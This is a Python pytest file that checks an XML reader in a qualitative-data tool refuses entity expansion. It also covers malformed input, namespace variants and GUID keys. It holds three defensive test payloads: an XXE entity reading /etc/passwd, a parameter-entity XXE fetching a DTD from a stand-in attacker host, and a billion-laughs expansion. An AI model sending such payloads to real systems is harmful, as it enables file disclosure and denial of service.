"""XML is parsed without entity expansion or network access; namespaces do not matter."""

from __future__ import annotations

import pytest

from qualcode.errors import InteropError
from qualcode.interop.xmlread import attr, child, children, guid_key, parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Project name="&xxe;"/>"""
XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Project name="p"/>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Project name="&lol3;"/>"""


@pytest.mark.parametrize("payload", [XXE, XXE_NETWORK, LAUGHS], ids=["xxe-file", "xxe-parameter", "billion-laughs"])
def test_entities_are_refused(payload):
    with pytest.raises(InteropError, match="Refused unsafe XML: Entities"):
        parse_xml(payload, "evil.qde")


def test_a_dtd_without_entities_is_tolerated():
    root = parse_xml(b'<?xml version="1.0"?><!DOCTYPE Project><Project name="p"/>', "ok.qde")
    assert root.get("name") == "p"


def test_malformed_xml_points_at_the_place():
    with pytest.raises(InteropError) as caught:
        parse_xml(b"<Project>\n  <Users>\n</Project>", "bad.qde")
    assert caught.value.file == "bad.qde" and caught.value.line == 3
    assert "not well-formed XML" in str(caught.value)


@pytest.mark.parametrize(
    "document",
    [
        b'<Project xmlns="urn:QDA-XML:project:1.0"><Users><User guid="G" name="a"/></Users></Project>',
        b'<Project xmlns="urn:QDA-XML:project:1.5"><users><User GUID="G" Name="a"/></users></Project>',
        b'<p:Project xmlns:p="x"><p:Users><p:User guid="G" name="a"/></p:Users></p:Project>',
        b"<Project><Users><User guid='G' name='a'/></Users></Project>",
    ],
)
def test_namespace_and_case_variants_read_alike(document):
    users = children(child(parse_xml(document, "x"), "Users"), "User")
    assert [(attr(u, "guid"), attr(u, "name")) for u in users] == [("G", "a")]


@pytest.mark.parametrize(
    ("value", "key"),
    [("{ABCDEF01-0000-0000-0000-000000000000}", "abcdef01-0000-0000-0000-000000000000"), (" C12 ", "c12")],
)
def test_guid_key(value, key):
    assert guid_key(value) == key
